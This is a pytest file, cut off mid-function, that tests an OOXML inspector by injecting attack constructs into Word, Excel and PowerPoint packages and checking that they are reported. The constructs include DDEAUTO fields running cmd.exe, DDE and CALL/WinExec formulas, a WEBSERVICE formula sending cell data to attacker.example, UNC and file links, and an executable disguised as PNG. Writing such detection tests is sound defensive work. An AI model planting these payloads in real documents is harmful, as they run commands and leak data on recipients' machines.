"""The independent OOXML inspector reads packages as Office reads them. Hand-made attacks, each in
the variants an attacker would use (split over runs and paragraphs, character references, Strict
namespace, odd case and whitespace, every place a formula may stand) are all reported; real
documents made by python-docx, python-pptx, XlsxWriter and LibreOffice are reported clean."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import docx
import pptx
import pytest
import xlsxwriter
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import parse_xml
from PIL import Image
from pptx.chart.data import CategoryChartData
from pptx.enum.chart import XL_CHART_TYPE
from pptx.util import Inches

from converters.inspect.ooxml import check_ooxml
from converters.inspect.ooxml_formulas import field_problems, formula_problems
from converters.inspect.ooxml_xml import Part
from converters.inspect.outputs import inspect_file

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
W = f'xmlns:w="{W_NS}"'
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
R = f'xmlns:r="{R_NS}"'
MC = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
DOC_RELS, TYPES = "word/_rels/document.xml.rels", "[Content_Types].xml"
Edit = Callable[[str], str] | bytes | None


def edit(source: Path | io.BytesIO, target: Path, changes: Mapping[str, Edit]) -> Path:
    """Copy a package, editing XML parts as text (a function), replacing or adding parts (bytes)
    or leaving parts out (None)."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = changes.get(name, b"")
            if name in changes and change is None:
                continue
            data = old.read(name)
            if callable(change):
                data = change(data.decode("utf-8")).encode("utf-8")
            elif change:
                data = change
            new.writestr(name, data)
        for name, change in changes.items():
            if name not in old.namelist() and isinstance(change, bytes):
                new.writestr(name, change)
    return target


def add_rel(rel_id: str, kind: str, target: str, external: bool = False) -> Callable[[str], str]:
    mode = ' TargetMode="External"' if external else ""
    return lambda rels: rels.replace("</Relationships>", f'<Relationship Id="{rel_id}" Type="{kind}" '
                                     f'Target="{target}"{mode}/></Relationships>')


def add_type(part: str, ctype: str) -> Callable[[str], str]:
    return lambda types: types.replace("</Types>", f'<Override PartName="{part}" ContentType="{ctype}"/></Types>')


def in_body(fragment: str) -> Callable[[str], str]:
    return lambda xml: re.sub(r"(<w:body>)", lambda m: m.group(1) + fragment, xml, count=1)


def image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((48, 48), 50).convert("RGB").save(buffer, kind)
    return buffer.getvalue()


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("base")
    document = docx.Document()
    document.add_paragraph("令和8年度 予算要求書 ①㈱ 髙橋")
    document.save(str(folder / "base.docx"))
    book = xlsxwriter.Workbook(str(folder / "base.xlsx"))
    sheet = book.add_worksheet("Sheet1")
    sheet.write_number("B1", 1200)
    sheet.write_formula("A1", "=SUM(B1:B2)", None, 1200)
    book.define_name("myName", "=Sheet1!$C$9")
    sheet.conditional_format("B1:B5", {"type": "formula", "criteria": "=$B1>7", "format": book.add_format()})
    sheet.conditional_format("C1:C5", {"type": "2_color_scale"})
    sheet.data_validation("D1", {"validate": "list", "source": "=$D$5:$D$7"})
    sheet.data_validation("E1", {"validate": "integer", "criteria": "between", "minimum": "=$E$5",
                                 "maximum": "=$E$6"})
    sheet.add_table("A10:C13", {"name": "Table1", "columns": [{"header": "a"}, {"header": "b"},
                                                              {"header": "c", "formula": "=[@a]*3"}]})
    sheet.insert_textbox("K1", "linked", {"textlink": "=$A$1"})
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Sheet1!$B$1:$B$3"})
    sheet.insert_chart("K5", chart)
    book.close()
    presentation = pptx.Presentation()
    slide = presentation.slides.add_slide(presentation.slide_layouts[1])
    slide.shapes.title.text = "タイトル"
    slide.placeholders[1].text = "本文"
    presentation.save(str(folder / "with-printer.pptx"))
    edit(folder / "with-printer.pptx", folder / "base.pptx", {  # python-pptx's template carries printer settings
        "ppt/printerSettings/printerSettings1.bin": None,
        "ppt/_rels/presentation.xml.rels": lambda x: re.sub(r"<Relationship [^>]*printerSettings[^>]*/>", "", x)})
    return {kind: folder / f"base.{kind}" for kind in ("docx", "xlsx", "pptx")}


def problems_of(source: Path, tmp_path: Path, changes: Mapping[str, Edit], name: str = "x") -> list[str]:
    target = edit(source, tmp_path / f"{name}{source.suffix}", changes)
    return check_ooxml(target)


def test_bases_are_clean(base: dict[str, Path]) -> None:
    for path in base.values():
        assert check_ooxml(path) == [], path.name


# --- Word fields -------------------------------------------------------------------------------

DANGEROUS_FIELDS = ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', 'DDE cmd "/c calc" x',
                    'INCLUDETEXT "c:\\\\secret.txt"', 'INCLUDEPICTURE "http://attacker.example/t.png" \\d',
                    'INCLUDE "x.doc"', 'IMPORT "\\\\\\\\host\\\\share\\\\a.wmf"', 'LINK Excel.Sheet.8 "c:\\\\a.xls" ""',
                    'DATABASE \\d "c:\\\\data.mdb" \\s "select *"', "MACROBUTTON AutoOpen click", 'PRINT "\\\\x"',
                    'RD "c:\\\\other.docx"', "AUTOTEXT Sig", 'HYPERLINK "file:///c:/windows/system32/calc.exe"',
                    'HYPERLINK "\\\\\\\\attacker\\\\share\\\\x.exe"', "HYPERLINK C:\\\\x.exe"]


def complex_field(pieces: list[str], result: str = "結果") -> str:
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
            f'</w:r><w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


@pytest.mark.parametrize("instruction", DANGEROUS_FIELDS)
def test_field_types_that_reach_outside_are_reported(instruction: str) -> None:
    assert field_problems(f" {instruction} ")
    assert field_problems(instruction.swapcase())


@pytest.mark.parametrize("instruction", ["PAGE", " NUMPAGES ", "page \\* MERGEFORMAT", 'TOC \\o "1-3" \\h \\z \\u',
                                         'DATE \\@ "yyyy/MM/dd"', "SEQ 図 \\* ARABIC", "REF _Ref1 \\h",
                                         "PAGEREF _Toc1 \\h", '=SUM(ABOVE) \\# "#,##0"', "MERGEFIELD 氏名",
                                         'HYPERLINK "https://www.example.jp/" \\o "tip"', 'HYPERLINK \\l "_Toc1"',
                                         "HYPERLINK mailto:a@example.jp", "FORMTEXT", "SYMBOL 61623 \\f Symbol",
                                         'DOCPROPERTY "Title"', "  ", "ADDIN ZOTERO_ITEM CSL_CITATION {}"])
def test_local_fields_are_not_reported(instruction: str) -> None:
    assert field_problems(instruction) == []


def test_field_instruction_split_over_runs_at_every_position(base: dict[str, Path], tmp_path: Path) -> None:
    instruction = ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    for cut in range(1, 12):
        for pieces in ([instruction[:cut], instruction[cut:]], [instruction[:cut], "", instruction[cut:cut + 2],
                                                                instruction[cut + 2:]]):
            found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(complex_field(pieces))})
            assert any("field" in p for p in found), (cut, pieces)


def test_field_instruction_across_paragraphs_and_in_deleted_runs(base: dict[str, Path], tmp_path: Path) -> None:
    across = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DD</w:instrText></w:r></w:p>'
              '<w:p><w:r><w:instrText>EAUTO c:\\\\a.exe x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/>'
              '</w:r><w:r><w:t>r</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    deleted = ('<w:p><w:del w:id="1" w:author="a"><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:delInstrText>'
               'INCLUDE</w:delInstrText></w:r><w:r><w:delInstrText>TEXT "c:\\\\a"</w:delInstrText></w:r><w:r>'
               '<w:fldChar w:fldCharType="end"/></w:r></w:del></w:p>')
    for fragment in (across, deleted):
        found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(fragment)})
        assert any("field" in p for p in found)


@pytest.mark.parametrize("encoded", ["&#x44;&#x44;&#x45;AUTO", "&#68;DE&#65;UTO", "&#x64;deauto", "\tDdEaUtO",
                                     "\u3000DDEAUTO", "&#xA0;INCLUDETEXT", " INCLUDEPICTURE"])
def test_encoded_and_odd_case_field_types(base: dict[str, Path], tmp_path: Path, encoded: str) -> None:
    simple = f'<w:p><w:fldSimple w:instr=" {encoded} c:\\\\x.exe a"><w:r><w:t>r</w:t></w:r></w:fldSimple></w:p>'
    for fragment in (complex_field([encoded, " c:\\\\x.exe a"]), simple):
        found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(fragment)})
        assert any("field" in p for p in found), fragment


def test_strict_namespace_word_document(base: dict[str, Path], tmp_path: Path) -> None:
    def strict(xml: str) -> str:
        return in_body(complex_field(["DDE", "AUTO c:\\\\x.exe a"]))(xml).replace(W_NS, STRICT_W)

    found = problems_of(base["docx"], tmp_path, {"word/document.xml": strict})
    assert any("DDEAUTO" in p for p in found)
    simple = '<w:p><w:fldSimple w:instr="INCLUDETEXT c:\\\\a"/></w:p>'
    found = problems_of(base["docx"], tmp_path, {"word/document.xml": lambda x: in_body(simple)(x).replace(
        W_NS, STRICT_W)})
    assert any("INCLUDETEXT" in p for p in found)


def test_field_type_made_by_a_nested_field(base: dict[str, Path], tmp_path: Path) -> None:
    nested = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
              '<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
              '<w:r><w:t>DDE</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c:\\\\a.exe x'
              '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar '
              'w:fldCharType="end"/></w:r></w:p>')
    found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(nested)})
    assert any("nested field" in p for p in found)
    link = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>HYPERLINK </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF target</w:instrText></w:r><w:r>'
            '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(link)})
    assert any("hyperlink field" in p for p in found)


def test_field_split_across_markup_compatibility_branches(base: dict[str, Path], tmp_path: Path) -> None:
    """Word reads one branch: "D" + "DEAUTO"; reading both in a row would give "DATE DEAUTO"."""
    crossing = (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><mc:AlternateContent {MC}><mc:Choice '
                'Requires="w14"><w:r><w:instrText>D</w:instrText></w:r></mc:Choice><mc:Fallback><w:r><w:instrText>'
                'ATE </w:instrText></w:r></mc:Fallback></mc:AlternateContent><w:r><w:instrText>DEAUTO c:\\\\a.exe x'
                '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(crossing)})
    assert any("markup-compatibility" in p for p in found)
    include = complex_field(["INCLUDETEXT c:\\\\a"])
    inside = (f'<mc:AlternateContent {MC}><mc:Choice Requires="w14">{complex_field(["PAGE"])}</mc:Choice>'
              f"<mc:Fallback>{include}</mc:Fallback></mc:AlternateContent>")
    found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(inside)})
    assert any("INCLUDETEXT" in p for p in found)


@pytest.mark.parametrize(("fragment", "part"), [
    ('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="t"/><w:entryMacro w:val="AutoRun"/>'
     '</w:ffData></w:fldChar></w:r><w:r><w:instrText>FORMTEXT</w:instrText></w:r><w:r><w:fldChar '
     'w:fldCharType="end"/></w:r></w:p>', "word/document.xml"),
    ('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:exitMacro w:val="x"/></w:ffData></w:fldChar></w:r>'
     '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>', "word/document.xml"),
    ('<w:p><w:r><w:fldChar w:fldCharType="begin"><w:fldData>AAAA</w:fldData></w:fldChar></w:r><w:r><w:fldChar '
     'w:fldCharType="end"/></w:r></w:p>', "word/document.xml"),
    (f'<w:subDoc {R} r:id="rId99"/>', "word/document.xml"),
    (f'<w:altChunk {R} r:id="rId99"/>', "word/document.xml"),
    (f'<w:p><w:r><w:object {R}><w:control r:id="rId99" w:name="x"/></w:object></w:r></w:p>', "word/document.xml"),
    ('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
     'ProgID="htmlfile"/></w:object></w:r></w:p>', "word/document.xml"),
    (f'<w:attachedTemplate {R} r:id="rId99"/>', "word/settings.xml"),
    ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:dataSource w:val="x"/></w:mailMerge>',
     "word/settings.xml"),
])
def test_active_word_elements(base: dict[str, Path], tmp_path: Path, fragment: str, part: str) -> None:
    if part == "word/document.xml":
        change = in_body(fragment)
    else:
        def change(xml: str) -> str:
            return re.sub(r"(<w:settings[^>]*>)", lambda m: m.group(1) + fragment, xml, count=1)
    found = problems_of(base["docx"], tmp_path, {part: change})
    assert any(("active element" in p or "field" in p) and part in p for p in found), found


# --- Excel formulas ----------------------------------------------------------------------------

BAD_FORMULAS = ['WEBSERVICE("http://attacker.example/?"&A1)', '_xlfn.WEBSERVICE("http://a.example")',
                'FILTERXML(_xlfn.WEBSERVICE("http://a.example"),"//x")', 'RTD("prog.id",,"topic")',
                '_xlfn.IMAGE("https://a.example/p.png")', 'CALL("kernel32","WinExec","JCJ","calc",1)',
                'REGISTER.ID("kernel32","WinExec")', 'EXEC("calc.exe")', 'INFO("directory")',
                '_xlfn.STOCKHISTORY("MSFT",1)', "GET.WORKBOOK(1)", "_xludf.MyMacro(1)", 'webservice ( "http://a" )',
                '_xlfn._xlws.PY(0,1,"x")', 'SQL.REQUEST("DSN=x")', 'HYPERLINK("file:///c:/x.exe","open")',
                'HYPERLINK("\\\\attacker\\share\\x.exe","open")', 'HYPERLINK("http://"&A1,"x")', "HYPERLINK(A1)",
                "[1]Sheet1!A1", "'C:\\dir\\[book.xlsx]Sheet1'!A1", "[book.xlsx]Sheet1!A1", "SUM([1]!Name)",
                "'\\\\host\\share\\[b.xlsx]S'!A1*2", "cmd|' /C calc'!A0", "SUM(msexcel|'x'!A1)",
                "CUBEVALUE(\"ThisWorkbookDataModel\",\"x\")", "_xleta.WEBSERVICE", "1+\"unterminated"]
GOOD_FORMULAS = ["SUM(B1:B2)", 'IF(A1>0,"a|b","c")', "'Data Sheet'!A1+'It''s'!B2", "Sheet1:Sheet3!A1",
                 "Table1[[#This Row],[a]]*3", "[[#This Row],a]*3", "[@a]+Table1[@[b c]]", "SUM(Table1[#Totals])",
                 "_xlfn.XLOOKUP(1,A:A,B:B)", "_xlfn._xlws.SORT(A1:A9)", "_xlfn.LET(_xlpm.x,A1,_xlpm.x*2)",
                 'HYPERLINK("https://www.example.jp/","site")', 'HYPERLINK("#\'Data Sheet\'!A1","go")',
                 "A1#", "#REF!", "{1,2;3,4}", "$A$1:$B$2 $B$1:$B$9", "-1.5E+3%", "予算!$B$1", "TRUE", "税率*2"]


@pytest.mark.parametrize("formula", BAD_FORMULAS)
def test_formulas_that_reach_outside_are_reported(formula: str) -> None:
    calls: set[str] = set()
    assert formula_problems(formula, calls) or calls


@pytest.mark.parametrize("formula", GOOD_FORMULAS)
def test_local_formulas_are_not_reported(formula: str) -> None:
    calls: set[str] = set()
    assert formula_problems(formula, calls) == [] and calls == set()


def escaped(formula: str) -> str:
    return formula.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


X14 = ('<extLst><ext uri="{78C0D931-6437-407d-A8EE-F0AAD7539E65}" xmlns:x14="http://schemas.microsoft.com/office/'
       'spreadsheetml/2009/9/main"><x14:conditionalFormattings><x14:conditionalFormatting xmlns:xm="http://schemas.'
       'microsoft.com/office/excel/2006/main"><x14:cfRule type="expression" priority="9" id="{00000000-0000-0000-0000-'
       '000000000001}"><xm:f>{}</xm:f></x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting>'
       "</x14:conditionalFormattings></ext></extLst></worksheet>")
PIVOT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml"


def pivot(formula: str) -> dict[str, Edit]:
    definition = ('<pivotCacheDefinition xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                  '><cacheSource type="worksheet"><worksheetSource ref="A1:B3" sheet="Sheet1"/></cacheSource>'
                  f'<cacheFields count="2"><cacheField name="a" numFmtId="0"/><cacheField name="c" formula="{formula}"'
                  ' databaseField="0"/></cacheFields></pivotCacheDefinition>')
    return {"xl/pivotCache/pivotCacheDefinition1.xml": definition.encode(),
            "xl/_rels/workbook.xml.rels": add_rel("rIdP", f"{R_NS}/pivotCacheDefinition",
                                                  "pivotCache/pivotCacheDefinition1.xml"),
            TYPES: add_type("/xl/pivotCache/pivotCacheDefinition1.xml", PIVOT_TYPE)}


def sub(part: str, pattern: str, replacement: Callable[[str], str]) -> dict[str, Edit]:
    def change(xml: str) -> str:
        changed, count = re.subn(pattern, lambda m: replacement(m.group(1)), xml, count=1)
        assert count == 1, pattern
        return changed
    return {part: change}


FORMULA_PLACES: dict[str, Callable[[str], dict[str, Edit]]] = {
    "cell": lambda f: sub("xl/worksheets/sheet1.xml", r"<f>(SUM\(B1:B2\))</f>", lambda _: f"<f>{f}</f>"),
    "shared formula": lambda f: sub("xl/worksheets/sheet1.xml", r"(<f>SUM\(B1:B2\)</f>)",
                                    lambda _: f'<f t="shared" ref="A1:A3" si="0">{f}</f>'),
    "array formula": lambda f: sub("xl/worksheets/sheet1.xml", r"(<f>SUM\(B1:B2\)</f>)",
                                   lambda _: f'<f t="array" ref="A1">{f}</f>'),
    "defined name": lambda f: sub("xl/workbook.xml", r"(Sheet1!\$C\$9)", lambda _: f),
    "conditional formatting": lambda f: sub("xl/worksheets/sheet1.xml", r"<formula>(\$B1&gt;7)</formula>",
                                            lambda _: f"<formula>{f}</formula>"),
    "color scale value": lambda f: sub("xl/worksheets/sheet1.xml", r'(<cfvo type="min" val="0"/>)',
                                       lambda _: f'<cfvo type="formula" val="{f}"/>'),
    "validation list": lambda f: sub("xl/worksheets/sheet1.xml", r"<formula1>(\$D\$5:\$D\$7)</formula1>",
                                     lambda _: f"<formula1>{f}</formula1>"),
    "validation maximum": lambda f: sub("xl/worksheets/sheet1.xml", r"<formula2>(\$E\$6)</formula2>",
                                        lambda _: f"<formula2>{f}</formula2>"),
    "x14 extension": lambda f: sub("xl/worksheets/sheet1.xml", r"(</worksheet>)", lambda _: X14.replace("{}", f)),
    "calculated column": lambda f: sub("xl/tables/table1.xml", r"<calculatedColumnFormula>([^<]*)<",
                                       lambda _: f"<calculatedColumnFormula>{f}<"),
    "totals row": lambda f: sub("xl/tables/table1.xml", r'(<tableColumn id="2" name="b"/>)',
                                lambda _: f'<tableColumn id="2" name="b"><totalsRowFormula>{f}</totalsRowFormula>'
                                          "</tableColumn>"),
    "chart series": lambda f: sub("xl/charts/chart1.xml", r"<c:f>([^<]*)</c:f>", lambda _: f"<c:f>{f}</c:f>"),
    "shape text link": lambda f: sub("xl/drawings/drawing1.xml", r'textlink="([^"]*)"', lambda _: f'textlink="{f}"'),
    "pivot calculated field": pivot,
}
ATTACK_FORMULAS = ['WEBSERVICE("http://attacker.example/")', "cmd|' /C calc'!A0", "cmd&#124;' /C calc'!A0",
                   "[1]Sheet1!A1", '_xlfn.RTD("x",,"y")', "'C:\\x\\[a.xlsx]S'!A1", '&#x52;TD("x",,"y")',
                   'HYPERLINK("file:///c:/x.exe")']


@pytest.mark.parametrize("place", sorted(FORMULA_PLACES))
def test_formulas_in_every_place_are_read(base: dict[str, Path], tmp_path: Path, place: str) -> None:
    for index, formula in enumerate(ATTACK_FORMULAS):
        text = formula.replace('"', "&quot;") if "&#" in formula else escaped(formula)
        found = problems_of(base["xlsx"], tmp_path, FORMULA_PLACES[place](text), f"{place}-{index}")
        assert any("formula" in p for p in found), (place, formula, found)
    local = problems_of(base["xlsx"], tmp_path, FORMULA_PLACES[place](escaped("SUM(Sheet1!$A$1:$A$2)")), "ok")
    assert local == [], local


def test_strict_spreadsheet_and_odd_case_content_types(base: dict[str, Path], tmp_path: Path) -> None:
    strict = "http://purl.oclc.org/ooxml/spreadsheetml/main"
    found = problems_of(base["xlsx"], tmp_path, {"xl/worksheets/sheet1.xml": lambda x: x.replace(
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main", strict).replace(
        "<f>SUM(B1:B2)</f>", "<f>cmd&#124;' /C calc'!A0</f>")})
    assert any("dde formula" in p for p in found)
    upper = problems_of(base["xlsx"], tmp_path, {TYPES: lambda x: re.sub(
        r'ContentType="([^"]+)"', lambda m: f'ContentType="{m.group(1).upper()}"', x)}, "upper")
    assert upper == []


def test_pre_standard_namespaces_are_read_with_the_same_rules(base: dict[str, Path], tmp_path: Path) -> None:
    """Office 2007 beta namespaces (.../spreadsheetml/2006/7/main) stand in charts' workbooks made by
    Office: read as the standard ones, so they are allowed and their formulas still judged."""
    def beta(formula: str) -> Callable[[str], str]:
        return lambda x: x.replace("spreadsheetml/2006/main", "spreadsheetml/2006/7/main").replace(
            "<f>SUM(B1:B2)</f>", f"<f>{formula}</f>")

    assert problems_of(base["xlsx"], tmp_path, {"xl/worksheets/sheet1.xml": beta("SUM(B1:B2)")}) == []
    found = problems_of(base["xlsx"], tmp_path, {"xl/worksheets/sheet1.xml": beta("cmd|'x'!A0")}, "dde")
    assert "dde formula in xl/worksheets/sheet1.xml" in found


def test_macro_assigned_to_a_shape(base: dict[str, Path], tmp_path: Path) -> None:
    def assign(macro: str) -> Callable[[str], str]:
        return lambda x: x.replace('<xdr:sp macro=""', f'<xdr:sp macro="{macro}"', 1)

    for index, value in enumerate(("[0]!CreateDOI", "'C:\\x\\evil.xlsm'!Run", " Module1.Main")):
        found = problems_of(base["xlsx"], tmp_path, {"xl/drawings/drawing1.xml": assign(value)}, f"m{index}")
        assert "macro assigned to a shape in xl/drawings/drawing1.xml" in found


@pytest.mark.parametrize("name", ["Auto_Open", "_xlnm.Auto_Open", "auto_open2", "AUTO_CLOSE", "Auto_Activate"])
def test_auto_run_names(base: dict[str, Path], tmp_path: Path, name: str) -> None:
    renamed = {"xl/workbook.xml": lambda x: x.replace('name="myName"', f'name="{name}"')}
    found = problems_of(base["xlsx"], tmp_path, renamed)
    assert "auto-run macro name in xl/workbook.xml" in found


def test_lambda_names_may_be_called_and_unknown_names_may_not(base: dict[str, Path], tmp_path: Path) -> None:
    def with_call(callee: str) -> Callable[[str], str]:
        return lambda x: x.replace("<f>SUM(B1:B2)</f>", f"<f>{callee}(B1)</f>")

    def lambda_named(name: str) -> Callable[[str], str]:
        return lambda x: x.replace("Sheet1!$C$9", "LAMBDA(_xlpm.x,_xlpm.x)").replace('name="myName"', f'name="{name}"')

    defined = {"xl/workbook.xml": lambda x: x.replace(
        "Sheet1!$C$9", "_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2)").replace('name="myName"', 'name="DOUBLE"'),
               "xl/worksheets/sheet1.xml": with_call("DOUBLE")}
    assert problems_of(base["xlsx"], tmp_path, defined) == []
    found = problems_of(base["xlsx"], tmp_path, {"xl/worksheets/sheet1.xml": with_call("FOPEN")}, "unknown")
    assert any("FOPEN" in p for p in found)
    not_lambda = {"xl/worksheets/sheet1.xml": with_call("myName")}  # a range, not a LAMBDA
    assert any("MYNAME" in p for p in problems_of(base["xlsx"], tmp_path, not_lambda, "range"))
    for index, (name, callee) in enumerate((("WEBSERVICE", "_xlfn.WEBSERVICE"), ("EXEC", "EXEC"),
                                            ("CUBEVALUE", "CUBEVALUE"), ("GET.CELL", "GET.CELL"))):
        shadow = {"xl/workbook.xml": lambda_named(name), "xl/worksheets/sheet1.xml": with_call(callee)}
        assert any("function" in p for p in problems_of(base["xlsx"], tmp_path, shadow, f"s{index}")), name


def test_vml_links_and_sources(base: dict[str, Path], tmp_path: Path) -> None:
    shapes = {"http://www.example.jp/": [], "file:///c:/x.exe": ["link"]}
    for index, (href, expected) in enumerate(shapes.items()):
        pict = (f'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="{href}" '
                'style="width:10pt;height:10pt"/></w:pict></w:r></w:p>')
        found = problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(pict)}, f"h{index}")
        assert [p for p in found if "link" in p] == ([f"link {href!r} in word/document.xml"] if expected else [])
    source = ('<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata '
              'src="https://tracker.example/pixel.png"/></v:shape></w:pict></w:r></w:p>')
    assert any("link" in p for p in problems_of(base["docx"], tmp_path, {"word/document.xml": in_body(source)}))


def test_pivot_cache_from_outside_and_vml_form_controls(base: dict[str, Path], tmp_path: Path) -> None:
    changes = pivot("1")
    definition = changes["xl/pivotCache/pivotCacheDefinition1.xml"]
    assert isinstance(definition, bytes)
    changes["xl/pivotCache/pivotCacheDefinition1.xml"] = definition.replace(
        b'<cacheSource type="worksheet">', b'<cacheSource type="external" connectionId="1">')
    assert any("outside source" in p for p in problems_of(base["xlsx"], tmp_path, changes))
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="urn:schemas-microsoft-com:office:excel"><v:shape>'
           '<x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Macro1</x:FmlaMacro></x:ClientData></v:shape></xml>')
    found = problems_of(base["xlsx"], tmp_path, {
        "xl/drawings/vmlDrawing9.vml": vml.encode(),
        "xl/worksheets/_rels/sheet1.xml.rels": add_rel("rIdV", f"{R_NS}/vmlDrawing", "../drawings/vmlDrawing9.vml"),
        TYPES: lambda x: x.replace("</Types>", '<Default Extension="vml" ContentType="application/vnd.openxmlformats-'
                                   'officedocument.vmlDrawing"/></Types>')}, "vml")
    assert any("form control" in p for p in found) and any("FmlaMacro" in p for p in found)


# --- Parts, relationships and media ------------------------------------------------------------

IMAGE_REL = f"{R_NS}/image"


def with_image(data: bytes, name: str = "media/image9.png") -> dict[str, Edit]:
    return {f"word/{name}": data, DOC_RELS: add_rel("rIdI", IMAGE_REL, name),
            TYPES: lambda x: x.replace("</Types>", '<Default Extension="png" ContentType="image/png"/></Types>')}


def test_media_must_be_what_its_type_says(base: dict[str, Path], tmp_path: Path) -> None:
    assert problems_of(base["docx"], tmp_path, with_image(image("PNG"))) == []
    executable = b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode.\r\n" + bytes(200)
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    polyglot = image("PNG") + b"PK\x03\x04" + bytes(40)
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    for index, data in enumerate((executable, svg, image("JPEG"), polyglot, ole, b"\x89PNG\r\n\x1a\n" + bytes(30))):
        found = problems_of(base["docx"], tmp_path, with_image(data), f"m{index}")
        assert any("word/media/image9.png" in p for p in found), index
    svg_part: dict[str, Edit] = {"word/media/image9.svg": svg,
                                 DOC_RELS: add_rel("rIdI", IMAGE_REL, "media/image9.svg"),
                                 TYPES: add_type("/word/media/image9.svg", "image/svg+xml")}
    assert any("image/svg+xml" in p for p in problems_of(base["docx"], tmp_path, svg_part, "svg"))


def test_unreferenced_parts_and_case_of_part_names(base: dict[str, Path], tmp_path: Path) -> None:
    found = problems_of(base["docx"], tmp_path, {"word/media/hidden.png": image("PNG"), "payload.bin": b"x"})
    assert {"unreferenced part word/media/hidden.png", "unreferenced part payload.bin"} <= set(found)
    odd_case: dict[str, Edit] = {
        "word/media/image9.png": image("PNG"), DOC_RELS: add_rel("rIdI", IMAGE_REL, "Media/IMAGE9.PNG"),
        TYPES: lambda x: x.replace("</Types>", '<Default Extension="PNG" ContentType="IMAGE/PNG"/></Types>')}
    assert problems_of(base["docx"], tmp_path, odd_case, "case") == []


@pytest.mark.parametrize(("kind", "target", "external"), [
    ("vbaProject", "vbaProject.bin", False), ("oleObject", "embeddings/o.bin", False),
    ("package", "embeddings/x.xlsx", False), ("attachedTemplate", "http://a.example/t.dotm", True),
    ("frame", "http://a.example/", True), ("subDocument", "file:///c:/x.docx", True), ("aFChunk", "a.mht", False),
    ("image", "http://attacker.example/track.png", True), ("hyperlink", "file:///c:/x.exe", True),
    ("hyperlink", "\\\\attacker\\share\\x.exe", True), ("image", "file:///c:/x.png", False),
    ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False),
    ("http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/c.xml", False),
    ("http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "x.xml", False),
])
def test_relationships_outside_the_allowlist(base: dict[str, Path], tmp_path: Path, kind: str, target: str,
                                              external: bool) -> None:
    rel_type = kind if kind.startswith("http") else f"{R_NS}/{kind}"
    found = problems_of(base["docx"], tmp_path, {DOC_RELS: add_rel("rIdX", rel_type, target, external)})
    assert any("relationship" in p for p in found), found


def test_allowed_links_and_strict_relationship_types(base: dict[str, Path], tmp_path: Path) -> None:
